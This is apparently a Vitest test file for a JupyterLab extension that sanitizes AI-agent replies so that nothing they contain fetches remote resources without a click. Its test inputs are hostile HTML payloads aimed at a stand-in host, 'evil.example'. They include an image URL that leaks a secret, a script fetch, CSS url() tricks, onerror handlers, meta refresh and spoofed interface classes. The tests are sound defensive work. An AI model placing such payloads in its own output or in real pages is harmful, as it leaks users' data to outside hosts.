// @vitest-environment jsdom
/** The agent-output sanitizer: nothing in a reply fetches anything without a click. */
import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import type { IRenderMime, IRenderMimeRegistry } from '@jupyterlab/rendermime';
import { renderMarkdown } from '@jupyterlab/rendermime/lib/renderers';
import { describe, expect, it } from 'vitest';

import {
  AgentOutputSanitizer,
  cleanAgentHtml,
  imageSource,
  loadRemoteImage,
  reloadChosenImages,
  REMOTE_IMAGE_CLASS,
  roomRendermime,
  withoutDiagrams
} from '../src/sanitize';

const BASE = 'http://127.0.0.1:8888/lab/tree/';
const EVIL = 'http://evil.example:8000';

function clean(html: string): HTMLDivElement {
  const div = document.createElement('div');
  div.innerHTML = cleanAgentHtml(html, BASE);
  return div;
}

/** Every attribute of every element in `node` that names the remote host, as `tag@attr`. */
function remoteReferences(node: Element): string[] {
  const found: string[] = [];
  for (const el of Array.from(node.querySelectorAll('*'))) {
    for (const { name, value } of Array.from(el.attributes)) {
      if (value.includes('evil.example')) {
        found.push(`${el.localName}@${name}`);
      }
    }
  }
  return found;
}

describe('images', () => {
  it('turns a remote image into a placeholder naming its host', () => {
    const out = clean(`<p>Look: <img src="${EVIL}/leak?secret=1" alt="chart"></p>`);
    expect(out.querySelector('img')).toBeNull();
    const button = out.querySelector<HTMLButtonElement>(`button.${REMOTE_IMAGE_CLASS}`)!;
    expect(button.textContent).toBe('Load image from evil.example:8000');
    expect(button.type).toBe('button');
    expect(button.dataset.src).toBe(`${EVIL}/leak?secret=1`);
    expect(button.dataset.alt).toBe('chart');
    expect(button.title).toBe(`chart: ${EVIL}/leak?secret=1`);
    expect(out.querySelector('p')!.textContent).toBe('Look: Load image from evil.example:8000');
  });

  it('treats protocol-relative and other-port URLs as remote', () => {
    const out = clean('<img src="//evil.example/x.png"><img src="http://127.0.0.1:9999/x.png">');
    const hosts = Array.from(out.querySelectorAll('button')).map(b => b.textContent);
    expect(hosts).toEqual(['Load image from evil.example', 'Load image from 127.0.0.1:9999']);
  });

  it('keeps data: and same-origin images as they are', () => {
    const data = 'data:image/png;base64,iVBORw0KGgo=';
    const out = clean(
      `<img src="${data}" alt="a"><img src="/files/plot.png" alt="b">` +
        '<img src="plot.png" width="20"><img src="http://127.0.0.1:8888/x.png">'
    );
    const srcs = Array.from(out.querySelectorAll('img')).map(i => i.getAttribute('src'));
    expect(srcs).toEqual([
      data,
      'http://127.0.0.1:8888/files/plot.png',
      'http://127.0.0.1:8888/lab/tree/plot.png',
      'http://127.0.0.1:8888/x.png'
    ]);
    expect(out.querySelectorAll('img')[2].getAttribute('width')).toBe('20');
    expect(out.querySelector('button')).toBeNull();
  });

  it('shows the alt text of an image it cannot load', () => {
    const out = clean(
      '<img src="javascript:alert(1)" alt="x"><img alt="y"><img src="file:///etc">'
    );
    expect(out.innerHTML).toBe('xy');
  });

  it('drops srcset and every other attribute of a kept image', () => {
    const out = clean(
      `<img src="/a.png" srcset="${EVIL}/a.png 2x" lowsrc="${EVIL}/l" onerror="x()" style="a">`
    );
    expect(out.innerHTML).toBe('<img src="http://127.0.0.1:8888/a.png">');
  });

  it('classifies sources', () => {
    expect(imageSource('https://evil.example/a', BASE)).toEqual({
      kind: 'remote',
      url: 'https://evil.example/a',
      host: 'evil.example'
    });
    expect(imageSource('  ', BASE)).toEqual({ kind: 'none' });
    expect(imageSource('attachment:a.png', BASE)).toEqual({ kind: 'none' });
  });
});

describe('controls, frames and resources', () => {
  it("removes forms, buttons and every other control, keeping a form's text", () => {
    const out = clean(
      '<form action="/lab" method="post"><p>Before</p><button>Reload</button>' +
        '<input name="q"><select><option>o</option></select><textarea>t</textarea>' +
        '<label>Label</label><fieldset><legend>L</legend></fieldset></form>'
    );
    expect(out.querySelector('form, button, input, select, option, textarea, label')).toBeNull();
    expect(out.textContent).toBe('BeforeLabelL');
  });

  it('removes frames, embeds, media, scripts, styles, metadata and foreign content', () => {
    const out = clean(
      `<iframe src="${EVIL}/f"></iframe><object data="${EVIL}/o"></object>` +
        `<embed src="${EVIL}/e"><link rel="stylesheet" href="${EVIL}/s.css">` +
        `<meta http-equiv="refresh" content="0;url=${EVIL}"><base href="${EVIL}/">` +
        `<style>p { background: url(${EVIL}/bg) }</style>` +
        `<video poster="${EVIL}/p" src="${EVIL}/v"><source src="${EVIL}/s"></video>` +
        `<audio src="${EVIL}/a"></audio><picture><source srcset="${EVIL}/p"></picture>` +
        `<svg><image href="${EVIL}/i"></image></svg><math><mi>x</mi></math>` +
        `<script>fetch("${EVIL}")</script><noscript><p>n</p></noscript>` +
        `<template><img src="${EVIL}/t"></template><!-- comment --><p>kept</p>`
    );
    expect(out.innerHTML).toBe('<p>kept</p>');
  });

  it('strips attributes that fetch or run code, and style that can fetch', () => {
    const out = clean(
      `<table background="${EVIL}/t"><tr><td style="background-image: url(${EVIL}/c)">a</td>` +
        '<td style="color: red; text-align: right">b</td>' +
        `<td style="background: u\\72l(${EVIL}/e)">c</td>` +
        `<td style="cursor: image-set('${EVIL}/i' 1x)">d</td></tr></table>` +
        '<div onclick="x()" onmouseover="y()" data-x="1">e</div>' +
        `<a href="${EVIL}/page" ping="${EVIL}/ping">link</a><a href="javascript:alert(1)">js</a>`
    );
    expect(remoteReferences(out)).toEqual(['a@href']);
    const cells = Array.from(out.querySelectorAll('td'));
    expect(cells.map(c => c.getAttribute('style'))).toEqual([
      null,
      'color: red; text-align: right',
      null,
      null
    ]);
    expect(out.querySelector('div')!.attributes.length).toBe(0);
    expect(out.querySelectorAll('a')[1].hasAttribute('href')).toBe(false);
  });

  it('keeps what a markdown reply needs', () => {
    const html =
      '<h2>Title</h2><p><strong>b</strong> <em>i</em> <code>c</code></p>' +
      '<pre><code class="language-python">x = 1</code></pre>' +
      '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote>q</blockquote>' +
      '<table><thead><tr><th align="right">h</th></tr></thead>' +
      '<tbody><tr><td align="right">1</td></tr></tbody></table>' +
      '<p><a href="https://jupyter.org" title="J">J</a></p><hr>' +
      '<details><summary>s</summary>d</details>';
    expect(cleanAgentHtml(html, BASE)).toBe(html);
  });

  it('takes no name in the page: ids, data-jupyter-ids and anchor names go', () => {
    const out = clean(
      '<h2 id="summary" data-jupyter-id="Summary">Summary</h2>' +
        '<div id="jp-main-dock-panel">x</div><a name="jupyterapp" href="#summary">y</a>'
    );
    expect(out.innerHTML).toBe('<h2>Summary</h2><div>x</div><a href="#summary">y</a>');
  });

  it("removes the room's own classes, so a reply cannot pass for a card or placeholder", () => {
    const out = clean(
      `<div class="jp-CopilotRoom-approval x"><span class="${REMOTE_IMAGE_CLASS}">Approve</span></div>`
    );
    expect(out.innerHTML).toBe('<div class="x"><span>Approve</span></div>');
  });
});

describe('AgentOutputSanitizer', () => {
  it("runs JupyterLab's sanitizer, then the agent-output pass", () => {
    const sanitizer = new AgentOutputSanitizer(new Sanitizer(), () => BASE);
    const out = document.createElement('div');
    out.innerHTML = sanitizer.sanitize(
      `<p><img src="${EVIL}/leak?secret=1" alt="x"></p>` +
        `<img src="${EVIL}/raw" onerror="alert(1)"><form><button>Go</button></form>` +
        '<p style="color: blue">text</p>'
    );
    expect(out.querySelector('img, form, input')).toBeNull();
    expect(Array.from(out.querySelectorAll('button')).map(b => b.textContent)).toEqual([
      'Load image from evil.example:8000',
      'Load image from evil.example:8000'
    ]);
    expect(out.querySelector('p[style]')!.getAttribute('style')).toBe('color:blue');
    expect(sanitizer.getAutolink()).toBe(true);
    expect(sanitizer.allowNamedProperties).toBe(false);
  });
});

describe('loading a remote image on a click', () => {
  it('replaces the placeholder by the image, and does it again after a re-render', () => {
    const host = clean(`<p><img src="${EVIL}/a.png" alt="A"><img src="${EVIL}/b.png"></p>`);
    const [first] = Array.from(host.querySelectorAll<HTMLElement>('button'));
    const img = loadRemoteImage(first);
    expect(img.getAttribute('src')).toBe(`${EVIL}/a.png`);
    expect(img.alt).toBe('A');
    expect(host.querySelectorAll('button')).toHaveLength(1);

    const again = clean(`<p><img src="${EVIL}/a.png" alt="A"><img src="${EVIL}/b.png"></p>`);
    reloadChosenImages(again, new Set([`${EVIL}/a.png`]));
    expect(Array.from(again.querySelectorAll('img')).map(i => i.getAttribute('src'))).toEqual([
      `${EVIL}/a.png`
    ]);
    expect(again.querySelectorAll('button')).toHaveLength(1);
  });
});

describe('diagrams', () => {
  it('leaves every fence marked would read as mermaid as source', () => {
    for (const fence of [
      '```mermaid',
      '``` mermaid ',
      '~~~~mermaid',
      '- ```mermaid',
      '> ```mermaid',
      '1. > - ```mermaid',
      '    ```mermaid',
      '```mermaid\u00a0',
      '```mermaid\r'
    ]) {
      expect(withoutDiagrams(`a\n${fence}\ngraph TD\n\`\`\`\n`)).toContain('mermaid-source');
    }
    for (const other of ['```python', '```mermaidx', '```mermaid {a}', 'mermaid']) {
      expect(withoutDiagrams(`${other}\nx\n`)).toBe(`${other}\nx\n`);
    }
  });
});

describe('roomRendermime', () => {
  it("clones the app's rendermime with the agent-output sanitizer and a parser without diagrams", async () => {
    const parsed: string[] = [];
    const appParser = {
      render: async (source: string) => {
        parsed.push(source);
        return `<p><img src="${EVIL}/leak?secret=1"></p><form><button>Go</button></form>`;
      }
    };
    const appSanitizer = new Sanitizer();
    let options: IRenderMimeRegistry.ICloneOptions = {};
    const app = {
      sanitizer: appSanitizer,
      markdownParser: appParser,
      clone: (given: IRenderMimeRegistry.ICloneOptions) => {
        options = given;
        return app;
      },
      getFactory: () => undefined
    } as unknown as IRenderMimeRegistry;
    roomRendermime(app);
    expect(options.sanitizer).toBeInstanceOf(AgentOutputSanitizer);

    // What JupyterLab's markdown renderer does with them, untrusted.
    const host = document.createElement('div');
    await renderMarkdown({
      host,
      source: '```mermaid\ngraph TD\n```',
      trusted: false,
      sanitizer: options.sanitizer!,
      markdownParser: options.markdownParser ?? null,
      resolver: null,
      linkHandler: null,
      latexTypesetter: null,
      shouldTypeset: false
    });
    expect(parsed).toEqual(['```mermaid-source\ngraph TD\n```']);
    expect(host.querySelector('img, form')).toBeNull();
    expect(host.querySelector('button')!.textContent).toBe('Load image from evil.example:8000');
  });

  it('takes off the name and the ¶ link JupyterLab gives each heading after sanitizing', async () => {
    // JupyterLab's markdown renderer, as far as headings go: it names them after the sanitizer.
    const markdown: IRenderMime.IRendererFactory = {
      safe: true,
      mimeTypes: ['text/markdown'],
      createRenderer: () => {
        const node = document.createElement('div');
        return {
          node,
          renderModel: async (model: IRenderMime.IMimeModel) => {
            node.innerHTML =
              `<h2 data-jupyter-id="${model.data['text/markdown']}" id="x">S` +
              '<a class="jp-InternalAnchorLink" href="#S">¶</a></h2>';
          }
        } as unknown as IRenderMime.IRenderer;
      }
    };
    const added: [IRenderMime.IRendererFactory, number | undefined][] = [];
    const app = {
      sanitizer: new Sanitizer(),
      markdownParser: null,
      clone: () => app,
      getFactory: (type: string) => (type === 'text/markdown' ? markdown : undefined),
      getRank: () => 7,
      addFactory: (factory: IRenderMime.IRendererFactory, rank?: number) =>
        added.push([factory, rank])
    } as unknown as IRenderMimeRegistry;
    roomRendermime(app);
    expect(added.map(([factory, rank]) => [factory.mimeTypes, rank])).toEqual([
      [['text/markdown'], 7]
    ]);
    const renderer = added[0][0].createRenderer({} as IRenderMime.IRendererOptions);
    await renderer.renderModel({
      data: { 'text/markdown': 'S' }
    } as unknown as IRenderMime.IMimeModel);
    expect(renderer.node.innerHTML).toBe('<h2>S</h2>');
  });
});
